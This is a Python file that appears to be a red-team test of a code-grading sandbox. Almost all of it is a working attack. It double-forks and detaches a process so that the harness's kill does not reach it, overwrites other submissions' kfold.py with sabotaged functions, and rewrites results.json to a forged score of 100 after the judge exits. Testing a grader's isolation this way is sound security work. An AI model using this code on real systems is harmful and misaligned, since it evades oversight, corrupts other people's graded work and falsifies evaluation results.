"""Leave a process behind that escapes every kill: double fork, setsid, exec with an empty
environment (no worker token). It then sabotages the next kfold submission graded on this
machine (rewrites its module) and, once the judge has exited, rewrites results.json to 100.
(It only touches paths of this red-team session and exits by itself after 90 s.)"""
# {{LIB}}
_ESCAPEE = r'''
import glob, json, os, sys, time
marker, results_dir, session = sys.argv[1], sys.argv[2], sys.argv[3]
SABOTAGE = (b"def kfold_indices(*a, **k):\n    raise RuntimeError('sabotaged')\n\n\n"
            b"def iterated_kfold_indices(*a, **k):\n    raise RuntimeError('sabotaged')\n")
FORGED = json.dumps({"score": 100, "output": "rewritten after the judge exited",
                     "tests": [{"name": "kfold: forged", "score": 100, "max_score": 10}]})

def args(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError:
        return ""

def judges():
    return [p for p in os.listdir("/proc") if p.isdigit() and results_dir in args(p)]

first = judges()
forged = False
deadline = time.time() + 90
while time.time() < deadline:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or "grader" not in args(pid):
            continue
        places = []
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                for item in f.read().split(b"\0"):
                    if item.startswith(b"TMPDIR="):
                        tmp = item[7:].decode(errors="replace")
                        places += glob.glob(tmp + "/dlgrade-*/kfold.py")
                        places += glob.glob(tmp + "/dlgrade-*/*/kfold.py")
        except OSError:
            pass
        try:
            places.append(os.readlink("/proc/%s/cwd" % pid) + "/kfold.py")
        except OSError:
            pass
        for path in places:
            if not path.startswith(session):
                continue
            try:
                with open(path, "rb") as f:
                    if f.read() == SABOTAGE:
                        continue
                with open(path, "wb") as f:
                    f.write(SABOTAGE)
            except OSError:
                pass
    if not forged and first and not any(os.path.exists("/proc/" + p) for p in first):
        forged = True
        try:
            with open(os.path.join(results_dir, "results.json"), "w") as f:
                f.write(FORGED)
        except OSError:
            pass
    time.sleep(0.01)
'''
import sys as _sys2

_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.closerange(3, 65536)
            _os.execve(_sys2.executable, [_sys2.executable, "-c", _ESCAPEE, MARKER, RESULTS_DIR,
                                          SESSION_DIR], {})
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
arm(globals())
